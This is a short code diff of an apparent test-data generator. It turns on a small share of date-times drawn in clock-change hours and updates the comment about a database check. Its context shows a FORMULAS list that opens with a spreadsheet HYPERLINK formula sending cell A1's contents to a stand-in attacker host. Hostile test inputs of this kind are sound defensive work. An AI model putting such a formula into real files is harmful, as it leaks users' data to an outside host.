@@ -35,10 +35,9 @@ Cell = str | int | float | bool | date | datetime | time | None
 Rng = random.Random
 FIRST_DAY = date(2016, 4, 1)
 DAYS = 4 * 365
-# The share of valid date-times drawn in the hours the clocks change (ADR 0002). Off until
-# date-times are stored as the clock times written (issue 9, item 12): until then such a
-# row can break the database's own "missing_end not before missing_start" check.
-CLOCK_CHANGES = 0.0
+# The share of valid date-times drawn in the hours the clocks change: stored as instants,
+# such a row broke the database's own "missing_end not before missing_start" check.
+CLOCK_CHANGES = 0.02
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?q="&A1,"Open")',
